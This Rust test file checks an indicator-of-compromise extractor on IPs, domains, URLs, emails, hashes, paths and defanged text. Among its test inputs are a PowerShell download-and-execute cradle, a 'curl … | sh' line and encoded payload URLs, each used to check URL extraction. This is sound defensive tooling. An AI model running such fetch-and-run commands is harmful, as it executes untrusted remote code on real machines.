//! Behaviour tests for extraction, classification and validation.

use super::*;
use proptest::prelude::*;

fn extract_with(text: &str, opts: &ExtractOptions) -> Vec<(String, String)> {
    IocExtractor::new(opts)
        .unwrap()
        .extract(text)
        .into_iter()
        .map(|(t, o)| (t.name().to_string(), o))
        .collect()
}

fn extract(text: &str) -> Vec<(String, String)> {
    extract_with(text, &ExtractOptions::default())
}

fn of_type(found: &[(String, String)], ty: &str) -> Vec<String> {
    found
        .iter()
        .filter(|(t, _)| t == ty)
        .map(|(_, o)| o.clone())
        .collect()
}

fn pairs(items: &[(&str, &str)]) -> Vec<(String, String)> {
    items
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

#[test]
fn ipv4_boundaries_and_octets() {
    let f = extract("src=10.0.0.5 dst=999.1.2.3 ver 1.2.3.4.5 n=1234.5.6.7 end 192.168.1.1.");
    assert_eq!(of_type(&f, "ipv4"), ["10.0.0.5", "192.168.1.1"]);
    assert_eq!(extract("(8.8.8.8)"), pairs(&[("ipv4", "8.8.8.8")]));
}

#[test]
fn ipv6_forms() {
    let f = extract(
        "a 2001:db8::8a2e:370:7334 b fe80::1%eth0 c ::ffff:192.168.1.1 d [2001:db8::1]:443 e ::1",
    );
    assert_eq!(
        of_type(&f, "ipv6"),
        [
            "2001:db8::8a2e:370:7334",
            "fe80::1",
            "::ffff:192.168.1.1",
            "2001:db8::1",
            "::1"
        ]
    );
    assert_eq!(of_type(&f, "ipv4"), ["192.168.1.1"]);
    assert_eq!(
        of_type(
            &extract("full 2001:0db8:0000:0000:0000:ff00:0042:8329."),
            "ipv6"
        ),
        ["2001:0db8:0000:0000:0000:ff00:0042:8329"]
    );
}

#[test]
fn ipv6_lookalikes_are_not_addresses() {
    for text in [
        "at 12:30:45 today",
        "2023-01-01T12:30:45Z",
        "mac 00:1a:2b:3c:4d:5e",
        "std::vector<int> x",
        "a :: b",
        "1:2:3:4:5:6:7:8:9",
    ] {
        assert_eq!(
            of_type(&extract(text), "ipv6"),
            Vec::<String>::new(),
            "{text}"
        );
    }
    // A rejected IPv6 start does not hide the domain that follows.
    assert_eq!(extract("cafe:babe:evil.com"), pairs(&[("dns", "evil.com")]));
}

#[test]
fn hashes_by_length() {
    let md5 = "d41d8cd98f00b204e9800998ecf8427e";
    let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
    let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let f = extract(&format!(
        "{sha256} {md5},{sha1} {md5}0 D41D8CD98F00B204E9800998ECF8427F"
    ));
    assert_eq!(
        f,
        pairs(&[
            ("md5_hash", md5),
            ("md5_hash", "D41D8CD98F00B204E9800998ECF8427F"),
            ("sha1_hash", sha1),
            ("sha256_hash", sha256),
        ])
    );
    // Adjacent hashes separated by one character are both found.
    let two = format!("{md5} {}", md5.replace('e', "f"));
    assert_eq!(of_type(&extract(&two), "md5_hash").len(), 2);
    // A hash is not a dns name, even with a dot after it.
    assert_eq!(extract(&format!("{md5}.exe")), pairs(&[("md5_hash", md5)]));
}

#[test]
fn dns_needs_a_public_suffix() {
    let f = extract("evil.local example.co.uk host.corp files.example.com report.zip a.ps1");
    assert_eq!(
        of_type(&f, "dns"),
        ["example.co.uk", "files.example.com", "report.zip"]
    );
    let opts = ExtractOptions {
        ignore_tlds: true,
        ..ExtractOptions::default()
    };
    let f = extract_with("evil.local example.co.uk", &opts);
    assert_eq!(of_type(&f, "dns"), ["evil.local", "example.co.uk"]);
    assert_eq!(
        of_type(&extract("xn--80ak6aa92e.com"), "dns"),
        ["xn--80ak6aa92e.com"]
    );
    // The suffix check ignores case; over-long names and labels are not domains.
    assert_eq!(
        of_type(&extract("Visit WWW.EXAMPLE.COM"), "dns"),
        ["WWW.EXAMPLE.COM"]
    );
    let long_label = format!("{}.com", "a".repeat(64));
    assert_eq!(of_type(&extract(&long_label), "dns"), Vec::<String>::new());
    let long_name = format!("{}com", "abcdefghi.".repeat(26));
    assert_eq!(of_type(&extract(&long_name), "dns"), Vec::<String>::new());
}

#[test]
fn ip_is_not_also_dns() {
    let f = extract("1.2.3.4 http://5.6.7.8/x");
    assert_eq!(of_type(&f, "dns"), Vec::<String>::new());
    assert_eq!(of_type(&f, "ipv4"), ["1.2.3.4", "5.6.7.8"]);
}

#[test]
fn url_host_reported_as_dns() {
    let f = extract("GET http://user:pw@host.example.com:8443/p?q=1#f and https://intranet/x");
    assert_eq!(
        of_type(&f, "url"),
        [
            "http://user:pw@host.example.com:8443/p?q=1#f",
            "https://intranet/x"
        ]
    );
    assert_eq!(of_type(&f, "dns"), ["host.example.com"]);
}

#[test]
fn url_ends_cleanly() {
    let f = extract("iex (New-Object Net.WebClient).DownloadString('http://1.2.3.4/a.ps1'); x");
    assert_eq!(of_type(&f, "url"), ["http://1.2.3.4/a.ps1"]);
    let f = extract("see (https://en.wikipedia.org/wiki/Foo_(bar)). Then");
    assert_eq!(
        of_type(&f, "url"),
        ["https://en.wikipedia.org/wiki/Foo_(bar)"]
    );
    assert_eq!(
        of_type(&extract("curl http://x.example.com/a.sh|sh"), "url"),
        ["http://x.example.com/a.sh"]
    );
}

#[test]
fn url_encoded_text_is_rescanned() {
    let text = "GET http://x.com/redirect?u=http%3A%2F%2Fevil.com%2Fpayload";
    let f = extract(text);
    assert_eq!(
        of_type(&f, "url"),
        [
            "http://x.com/redirect?u=http%3A%2F%2Fevil.com%2Fpayload",
            "http://x.com/redirect?u=http://evil.com/payload",
            "http://evil.com/payload",
        ]
    );
    assert_eq!(of_type(&f, "dns"), ["x.com", "evil.com"]);
    // Double encoding, outside a URL.
    let f = extract("cmd=curl%2520evil%252Eexample%252Eorg");
    assert_eq!(of_type(&f, "dns"), ["evil.example.org"]);
}

#[test]
fn emails_in_key_value_logs() {
    let line = "postfix/smtp: from=user@example.com, to=<john.smith@corp.example.co.uk>, relay=mail.evil.local status=sent";
    let f = extract(line);
    assert_eq!(
        of_type(&f, "email"),
        ["user@example.com", "john.smith@corp.example.co.uk"]
    );
    assert_eq!(of_type(&f, "dns"), ["example.com", "corp.example.co.uk"]);
    let f = extract("GET /x?a=1&to=admin@evil.com msg='bob@example.org'");
    assert_eq!(of_type(&f, "email"), ["admin@evil.com", "bob@example.org"]);
    // An email at a private domain is kept; its domain is not a dns name.
    assert_eq!(
        extract("admin@corp.local"),
        pairs(&[("email", "admin@corp.local")])
    );
}

#[test]
fn defanged_phishing_text() {
    let text = "Click hxxps://evil-site[.]com/login or hXXp://bad[.]example[.]org/x.php?id=1, \
                mail support[at]evil(.)com, visit evil[dot]net, C2 at 45[.]33[.]32[.]156, \
                fXp://files(dot)example(dot)com/a.zip";
    let f = extract(text);
    assert_eq!(
        of_type(&f, "url"),
        [
            "hxxps://evil-site[.]com/login",
            "hXXp://bad[.]example[.]org/x.php?id=1",
            "fXp://files(dot)example(dot)com/a.zip"
        ]
    );
    assert_eq!(of_type(&f, "email"), ["support[at]evil(.)com"]);
    assert_eq!(of_type(&f, "ipv4"), ["45[.]33[.]32[.]156"]);
    assert_eq!(
        of_type(&f, "dns"),
        [
            "evil-site[.]com",
            "bad[.]example[.]org",
            "evil(.)com",
            "evil[dot]net",
            "files(dot)example(dot)com",
            "a.zip"
        ]
    );

    let refanged = extract_with(
        text,
        &ExtractOptions {
            refang: true,
            ..ExtractOptions::default()
        },
    );
    assert_eq!(
        of_type(&refanged, "url"),
        [
            "https://evil-site.com/login",
            "http://bad.example.org/x.php?id=1",
            "ftp://files.example.com/a.zip"
        ]
    );
    assert_eq!(of_type(&refanged, "email"), ["support@evil.com"]);
    assert_eq!(of_type(&refanged, "ipv4"), ["45.33.32.156"]);

    // MSTICPy's defanged=False: only plain indicators.
    let plain = extract_with(
        text,
        &ExtractOptions {
            defanged: false,
            ..ExtractOptions::default()
        },
    );
    assert_eq!(of_type(&plain, "url"), Vec::<String>::new());
    assert_eq!(of_type(&plain, "dns"), ["a.zip"]);
}

#[test]
fn refang_merges_duplicates() {
    let opts = ExtractOptions {
        refang: true,
        ..ExtractOptions::default()
    };
    assert_eq!(
        extract_with("evil.com evil[.]com", &opts),
        pairs(&[("dns", "evil.com")])
    );
}

#[test]
fn priorities_decide_between_types() {
    // Same string as a custom type of lower priority number: the custom type wins …
    let opts = ExtractOptions {
        custom_types: vec![CustomIocType::new("corp_host", r"[a-z]+\.example\.com", 0)],
        ..ExtractOptions::default()
    };
    assert_eq!(
        extract_with("web.example.com", &opts),
        pairs(&[("corp_host", "web.example.com")])
    );
    // … and with a higher number the built-in keeps it.
    let opts = ExtractOptions {
        custom_types: vec![CustomIocType::new("corp_host", r"[a-z]+\.example\.com", 5)],
        ..ExtractOptions::default()
    };
    assert_eq!(
        extract_with("web.example.com", &opts),
        pairs(&[("dns", "web.example.com")])
    );
}

#[test]
fn custom_types_with_groups_and_nested_indicators() {
    let opts = ExtractOptions {
        custom_types: vec![
            CustomIocType::new("cve", r"CVE-\d{4}-\d{4,}", 1),
            CustomIocType {
                group: Some("id".into()),
                ..CustomIocType::new("ticket", r"ticket #(?P<id>\d+)", 1)
            },
            CustomIocType::new("c2_line", r"beacon=\S+", 3),
        ],
        ..ExtractOptions::default()
    };
    let f = extract_with(
        "cve-2021-44228 via Ticket #4711; beacon=10.9.8.7:443",
        &opts,
    );
    assert_eq!(
        f,
        pairs(&[
            ("ipv4", "10.9.8.7"),
            ("cve", "cve-2021-44228"),
            ("ticket", "4711"),
            ("c2_line", "beacon=10.9.8.7:443"),
        ])
    );
    // Asking for a custom type by name.
    let only = ExtractOptions {
        ioc_types: Some(vec!["cve".into()]),
        ..opts.clone()
    };
    assert_eq!(
        extract_with("CVE-2020-0601 1.2.3.4", &only),
        pairs(&[("cve", "CVE-2020-0601")])
    );
}

#[test]
fn custom_type_errors() {
    let bad = |c: CustomIocType| {
        IocExtractor::new(&ExtractOptions {
            custom_types: vec![c],
            ..ExtractOptions::default()
        })
        .err()
        .expect("should fail")
        .to_string()
    };
    assert!(bad(CustomIocType::new("x", "(?<=a)b", 1)).contains("invalid regex"));
    assert!(bad(CustomIocType::new("sha256", "a", 1)).contains("built-in"));
    let e = bad(CustomIocType {
        group: Some("g".into()),
        ..CustomIocType::new("x", "(a)", 1)
    });
    assert!(e.contains("no capture group named `g`"), "{e}");
}

#[test]
fn paths_only_on_request() {
    let text = r"C:\Windows\System32\cmd.exe /c \\server\share\x.exe and /usr/bin/curl";
    assert_eq!(extract(text), Vec::<(String, String)>::new());
    let win = extract_with(
        text,
        &ExtractOptions {
            include_paths: true,
            ..ExtractOptions::default()
        },
    );
    assert_eq!(
        win,
        pairs(&[
            ("windows_path", r"C:\Windows\System32\cmd.exe"),
            ("windows_path", r"\\server\share\x.exe")
        ])
    );
    let lx = ExtractOptions {
        ioc_types: Some(vec!["linux_path".into()]),
        ..ExtractOptions::default()
    };
    assert_eq!(
        of_type(&extract_with(text, &lx), "linux_path"),
        ["/c", "/usr/bin/curl"]
    );
    let f = extract_with(
        r"C:\Program Files\App\evil.com\drop.exe",
        &ExtractOptions {
            include_paths: true,
            ..ExtractOptions::default()
        },
    );
    assert_eq!(
        f,
        pairs(&[
            ("dns", "evil.com"),
            ("windows_path", r"C:\Program Files\App\evil.com\drop.exe")
        ])
    );
}

#[test]
fn type_filter_reports_only_requested_types() {
    let opts = ExtractOptions {
        ioc_types: Some(vec!["dns".into()]),
        ..ExtractOptions::default()
    };
    assert_eq!(
        extract_with("http://evil.com/a a@b.example.org 1.2.3.4", &opts),
        pairs(&[("dns", "evil.com"), ("dns", "b.example.org")])
    );
    let opts = ExtractOptions {
        ioc_types: Some(vec!["sha256".into(), "ip".into()]),
        ..ExtractOptions::default()
    };
    assert_eq!(
        extract_with("http://1.2.3.4/x", &opts),
        pairs(&[("ipv4", "1.2.3.4")])
    );
    let opts = ExtractOptions {
        ioc_types: Some(vec!["file_hash".into()]),
        ..ExtractOptions::default()
    };
    let md5 = "d41d8cd98f00b204e9800998ecf8427e";
    let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
    assert_eq!(
        extract_with(&format!("{sha1} {md5} 1.2.3.4"), &opts),
        pairs(&[("md5_hash", md5), ("sha1_hash", sha1)])
    );
}

#[test]
fn classification_of_single_observables() {
    let cases = [
        ("hxxps://evil-site[.]com/a", Some(IocType::Url)),
        ("https://example.com/a?b=c", Some(IocType::Url)),
        ("10.1.2.3", Some(IocType::Ipv4)),
        ("fe80::1", Some(IocType::Ipv6)),
        ("evil[.]com", Some(IocType::Dns)),
        ("user@example.com", Some(IocType::Email)),
        ("d41d8cd98f00b204e9800998ecf8427e", Some(IocType::Md5Hash)),
        (
            "da39a3ee5e6b4b0d3255bfef95601890afd80709",
            Some(IocType::Sha1Hash),
        ),
        (r"C:\Windows\evil.exe", Some(IocType::WindowsPath)),
        ("/etc/passwd", Some(IocType::LinuxPath)),
        ("evil.local", None),
        ("12:30:45", None),
        ("hello", None),
        ("", None),
    ];
    for (text, want) in cases {
        assert_eq!(ioc_type(text), want, "{text}");
    }
}

#[test]
fn validation_is_a_full_match() {
    assert!(validate("evil.com", &IocType::Dns));
    assert!(validate("example.co.uk", &IocType::Dns));
    assert!(!validate("evil.local", &IocType::Dns));
    assert!(!validate("x evil.com", &IocType::Dns));
    assert!(validate("1.2.3.4", &IocType::Ipv4));
    assert!(!validate("1.2.3.400", &IocType::Ipv4));
    assert!(!validate("1.2.3.4", &IocType::Dns));
    assert!(validate("hxxps://evil-site[.]com/a", &IocType::Url));
    assert!(!validate("http://x.com/a.", &IocType::Url));
    assert!(validate("::ffff:1.2.3.4", &IocType::Ipv6));
    assert!(!validate(
        "d41d8cd98f00b204e9800998ecf8427e",
        &IocType::Sha1Hash
    ));
    let plain = IocExtractor::new(&ExtractOptions {
        defanged: false,
        ..ExtractOptions::default()
    })
    .unwrap();
    assert!(!plain.validate("evil[.]com", &IocType::Dns));
    let ignoring = IocExtractor::new(&ExtractOptions {
        ignore_tlds: true,
        ..ExtractOptions::default()
    })
    .unwrap();
    assert!(ignoring.validate("evil.local", &IocType::Dns));
}

#[test]
fn hash_type_by_length() {
    assert_eq!(
        file_hash_type("d41d8cd98f00b204e9800998ecf8427e"),
        Some(IocType::Md5Hash)
    );
    assert_eq!(
        file_hash_type(" da39a3ee5e6b4b0d3255bfef95601890afd80709 "),
        Some(IocType::Sha1Hash)
    );
    assert_eq!(
        file_hash_type("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
        Some(IocType::Sha256Hash)
    );
    assert_eq!(file_hash_type("abc"), None);
    assert_eq!(file_hash_type("z41d8cd98f00b204e9800998ecf8427e"), None);
}

#[test]
fn extract_many_skips_nulls_and_keeps_positions() {
    let ex = IocExtractor::new(&ExtractOptions::default()).unwrap();
    let texts = [Some("1.1.1.1"), None, Some("x"), Some("evil.com 2.2.2.2")];
    let got: Vec<_> = ex
        .extract_many(&texts)
        .into_iter()
        .map(|m| {
            (
                m.source_index,
                m.ioc_type.name().to_string(),
                m.observable,
                m.input,
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (0, "ipv4".into(), "1.1.1.1".into(), "1.1.1.1"),
            (3, "ipv4".into(), "2.2.2.2".into(), "evil.com 2.2.2.2"),
            (3, "dns".into(), "evil.com".into(), "evil.com 2.2.2.2"),
        ]
    );
}

#[test]
fn non_ascii_text_is_safe() {
    let f = extract(
        "Zugriff von ümlaut.example.com → 10.0.0.1 ſtraße@exämple.de 日本.jp http://例え.jp/パス",
    );
    assert_eq!(of_type(&f, "ipv4"), ["10.0.0.1"]);
    assert!(of_type(&f, "dns").contains(&"mlaut.example.com".to_string()));
}

/// Whether `obs` is in `input`, directly or after refanging / percent-decoding it.
fn occurs_in(obs: &str, input: &str) -> bool {
    let mut forms = vec![input.to_string()];
    let mut cur = input.to_string();
    for _ in 0..2 {
        cur = scan::percent_decode(&cur);
        forms.push(cur.clone());
    }
    forms.iter().any(|f| f.contains(obs))
}

fn indicator_soup() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "http://",
        "hxxps://",
        "[.]",
        ".",
        "@",
        "[at]",
        ":",
        "::",
        "%2F",
        "%3A",
        "%25",
        "=",
        "/",
        "\\",
        "C:",
        "com",
        "co.uk",
        "local",
        "evil",
        "1.2.3.4",
        "256",
        "ffff",
        "d41d8cd98f00b204",
        "e9800998ecf8427e",
        " ",
        "(",
        ")",
        "'",
        "é",
        "日本",
        "\n",
        "-",
        "..",
        "xn--",
    ]);
    prop::collection::vec(
        prop_oneof![pieces.prop_map(String::from), "\\PC{0,6}"],
        0..40,
    )
    .prop_map(|v| v.concat())
}

/// Extractors for every built-in type, as found and refanged; built once for all cases.
fn soup_extractors() -> &'static (IocExtractor, IocExtractor) {
    static EXTRACTORS: std::sync::OnceLock<(IocExtractor, IocExtractor)> =
        std::sync::OnceLock::new();
    EXTRACTORS.get_or_init(|| {
        let all = ExtractOptions {
            ioc_types: Some(BUILTIN_TYPES.iter().map(|t| t.name().to_string()).collect()),
            ..ExtractOptions::default()
        };
        let refanging = ExtractOptions {
            refang: true,
            ..all.clone()
        };
        (
            IocExtractor::new(&all).unwrap(),
            IocExtractor::new(&refanging).unwrap(),
        )
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]

    #[test]
    fn never_panics_and_observables_come_from_the_input(text in indicator_soup()) {
        let (all, refanging) = soup_extractors();
        for (_, obs) in all.extract(&text) {
            prop_assert!(!obs.is_empty());
            prop_assert!(occurs_in(&obs, &text), "{obs:?} not in {text:?}");
        }
        for (ty, obs) in refanging.extract(&text) {
            if matches!(ty, IocType::Ipv4 | IocType::Dns | IocType::Email) {
                // Plain forms carry no defanging and are valid indicators on their own.
                prop_assert!(!obs.contains("[.]") && !obs.contains("[at]"), "{obs:?}");
                prop_assert!(refanging.validate(&obs, &ty), "{ty} {obs:?} from {text:?}");
            }
        }
        let _ = ioc_type(&text);
    }

    #[test]
    fn arbitrary_unicode_never_panics(text in "\\PC{0,200}") {
        let _ = soup_extractors().0.extract(&text);
        let _ = ioc_type(&text);
        let _ = validate(&text, &IocType::Url);
    }
}

#[test]
fn refang_gives_the_plain_form_for_the_type() {
    assert_eq!(
        refang("hxxps[://]evil[.]com/a", &IocType::Url),
        "https://evil.com/a"
    );
    assert_eq!(refang("38[.]75[.]137[.]9", &IocType::Ipv4), "38.75.137.9");
    assert_eq!(
        refang("plain.example.com", &IocType::Dns),
        "plain.example.com"
    );
    assert_eq!(refang("x[.]y", &IocType::Custom("tag".into())), "x[.]y");
}
